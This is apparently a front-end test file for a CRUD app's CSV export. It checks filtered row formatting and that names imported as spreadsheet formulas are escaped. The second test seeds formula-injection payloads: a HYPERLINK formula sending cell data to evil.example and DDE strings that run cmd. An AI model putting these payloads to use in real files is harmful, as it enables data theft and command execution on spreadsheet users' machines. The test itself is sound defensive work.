// CSV export: the rows of the current filter and order, labels as headers, values as shown.
import { screen, waitFor } from "@testing-library/react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import type { InstalledContractMock } from "../../mocks";
import { mockApi, renderCrud, waitForRows } from "./harness";

let api: InstalledContractMock;
let blobs: Blob[];

beforeEach(() => {
  api = mockApi();
  blobs = [];
  URL.createObjectURL = vi.fn((b: Blob) => {
    blobs.push(b);
    return "blob:csv";
  });
  URL.revokeObjectURL = vi.fn();
  api.db.seed("project-type", [{ id: 1, name: "Fibre rollout" }]);
  api.db.seed(
    "project",
    Array.from({ length: 25 }, (_, i) => ({
      name: `Project ${i + 1}`,
      code: `P-${i + 1}`,
      project_type_id: 1,
      start_date: `2026-01-${String(i + 1).padStart(2, "0")}`,
      end_date: "2026-12-31",
      budget: (i + 1) * 1000000,
      status: i % 5 === 0 ? "completed" : "planning",
      progress: i % 5 === 0 ? 100 : 10,
    })),
  );
});

describe("CSV export", () => {
  it("exports every row of the current filter, formatted, with the column labels", async () => {
    const { user } = await renderCrud("/project?filters[0][field]=status&filters[0][operator]=eq&filters[0][value]=planning");
    await waitForRows(10);
    api.clearLog();
    await user.click(screen.getByRole("button", { name: /Export CSV/ }));
    await waitFor(() => expect(blobs).toHaveLength(1));
    const exportCalls = api.requests("POST", "project/search");
    expect(exportCalls.length).toBeGreaterThanOrEqual(1);
    for (const c of exportCalls) expect(c.body).toMatchObject({ columns: [{ data: "status", operator: "=" }], orders: { columns: ["start_date"], ascending: false } });
    // jsdom's Blob has no text(): read it the old way.
    const text = await new Promise<string>((res) => {
      const reader = new FileReader();
      reader.onload = () => res(String(reader.result));
      reader.readAsText(blobs[0]);
    });
    const csv = text.replace(/^\uFEFF/, "").replace(/\u00a0/g, " ");
    const lines = csv.trim().split(/\r?\n/);
    expect(lines[0]).toBe('"ID","Name","Code","Project type","Project phase","Client","Project manager","Start date","End date","Contract value","Status","Progress"');
    expect(lines).toHaveLength(1 + 20); // 20 planning projects of 25
    expect(lines[1]).toBe('"25","Project 25","P-25","Fibre rollout","-","-","-","25-01-2026","31-12-2026","IDR 25,000,000","Planning","10%"');
    expect(csv).not.toContain("Completed");
  });
});

describe("CSV export of people imported under formulas' names", () => {
  it("writes each such name as text a spreadsheet does not run", async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
    api.db.seed(
      "human-resource",
      names.map((name, i) => ({ id: i + 1, name, email: `p${i + 1}@demo.test`, phone: "+62 812 0000", is_active: true })),
    );
    const { user } = await renderCrud("/human-resource");
    await waitForRows(3);
    await user.click(screen.getByRole("button", { name: /Export CSV/ }));
    await waitFor(() => expect(blobs).toHaveLength(1));
    const text = await new Promise<string>((res) => {
      const reader = new FileReader();
      reader.onload = () => res(String(reader.result));
      reader.readAsText(blobs[0]);
    });
    const { default: Papa } = await import("papaparse");
    const [header, ...rows] = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    const name = header.indexOf("Name");
    expect(rows.map((r) => r[name]).sort()).toEqual(names.map((n) => `'${n}`).sort());
    expect(rows.map((r) => r[header.indexOf("Phone number")])).toEqual(["'+62 812 0000", "'+62 812 0000", "'+62 812 0000"]);
    // Nothing else starts as a formula would (the lone "-" of a missing value runs nothing).
    for (const r of rows) for (const cell of r) if (cell !== "-") expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
